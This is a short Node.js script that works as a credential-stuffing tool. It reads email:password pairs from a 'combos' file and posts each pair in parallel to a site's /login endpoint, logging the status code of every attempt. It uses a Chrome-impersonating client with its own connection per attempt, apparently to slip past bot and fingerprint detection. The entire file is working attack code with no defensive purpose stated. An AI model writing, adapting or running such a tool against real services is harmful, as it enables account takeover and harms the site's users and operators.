/** Tries the pairs in `combos` by impit, which copies Chrome, its TLS included; says how each attempt ended. Arguments: URL, parallel. */
import { readFileSync } from "node:fs";
import { Impit } from "impit";

const [url = "", parallel = "1"] = process.argv.slice(2);
const lines = readFileSync("combos", "utf8").trim().split("\n");

async function work() {
  for (let line = lines.pop(); line !== undefined; line = lines.pop()) {
    const [email = "", password = ""] = line.split(":");
    // Another one each time, so that each attempt has a connection of its own.
    const browser = new Impit({
      browser: "chrome",
      followRedirects: false,
      ignoreTlsErrors: true,
      timeout: 10_000,
    });
    const body = new URLSearchParams({ email, password }).toString();
    const headers = { "content-type": "application/x-www-form-urlencoded" };
    const status = await browser.fetch(`${url}/login`, { method: "POST", headers, body }).then(
      (answer) => answer.status,
      () => 0,
    );
    console.log(`attempt ${email} ${status}`);
  }
}

await Promise.all(Array.from({ length: Number(parallel) }, work));
process.exit(0);
